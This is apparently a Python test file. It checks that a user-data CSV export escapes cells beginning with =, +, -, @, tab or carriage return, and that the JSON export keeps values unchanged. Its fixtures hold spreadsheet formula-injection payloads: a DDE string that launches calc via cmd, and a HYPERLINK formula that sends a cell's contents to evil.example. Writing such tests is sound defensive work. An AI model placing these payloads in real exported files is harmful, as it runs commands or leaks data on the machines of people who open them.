"""CSV exports a spreadsheet opens safely (issue 21, item 3): a cell that starts like a
formula (=, +, -, @, tab, carriage return) goes out behind a `'`, which spreadsheets show as
text and never run; every other cell, and the JSON export, carry the value unchanged."""

from __future__ import annotations

import csv
import io
import json

from foldkit import fold

from projections.export import USER_COLUMNS, user_document, user_row, write_user

NOW = 1_795_000_000_000
HOSTILE_ID = "=cmd|' /C calc'!A0"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
HOSTILE_EMAIL = "+1+1@x.example"
RECORDS = [
    {
        "type": "identify",
        "app_id": "app",
        "user_id": HOSTILE_ID,
        "event_id": "i",
        "timestamp": NOW - 60_000,
        "traits": {
            "name": HOSTILE_NAME,
            "email": HOSTILE_EMAIL,
            "plan": "@SUM(1+1)*cmd|' /C calc'!A0",
            "note": "@leading at",
            "motto": "-2+3",
            "quiet": "plain text",
        },
        "company": {"id": "=1+1", "name": "-Acme"},
    },
    {
        "type": "track",
        "app_id": "app",
        "user_id": HOSTILE_ID,
        "event_id": "t",
        "timestamp": NOW,
        "name": "=1+1",
    },
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_exported_cell_starts_like_a_formula_and_each_keeps_its_value() -> None:
    reader = fold(RECORDS, now_ms=NOW)
    doc = user_document(reader, "app", HOSTILE_ID)
    out = io.StringIO(newline="")
    write_user(doc, "csv", out)
    rows = cells(out.getvalue())
    row = dict(zip(USER_COLUMNS, cells(_csv_line(user_row(doc["profile"])))[0], strict=True))
    every = [c for r in rows for c in r] + list(row.values())
    assert not [c for c in every if c.startswith(TRIGGERS)], "a cell a spreadsheet would run"
    by_field = {r[2]: r[3] for r in rows if r[0] == "profile"}
    for got in (by_field, row):
        assert got["user_id"] == "'" + HOSTILE_ID
        assert got["name"] == "'" + HOSTILE_NAME
        assert got["email"] == "'" + HOSTILE_EMAIL
        assert got["company_id"] == "'=1+1"
        assert got["company_name"] == "'-Acme"
        properties = json.loads(got["properties"])  # JSON starts with {: no quote needed
        assert properties["plan"] == "@SUM(1+1)*cmd|' /C calc'!A0"
        assert properties["quiet"] == "plain text"
    assert ["overview", "", "total_events", "1"] in rows  # numbers stay numbers
    assert any(r[2] == "breakdown" and "=1+1" in r[3] for r in rows if r[0] == "sessions")
    as_json = io.StringIO()
    write_user(doc, "json", as_json)
    assert json.loads(as_json.getvalue())["profile"]["name"] == HOSTILE_NAME  # unchanged


def _csv_line(row: list[str]) -> str:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(row)
    return out.getvalue()
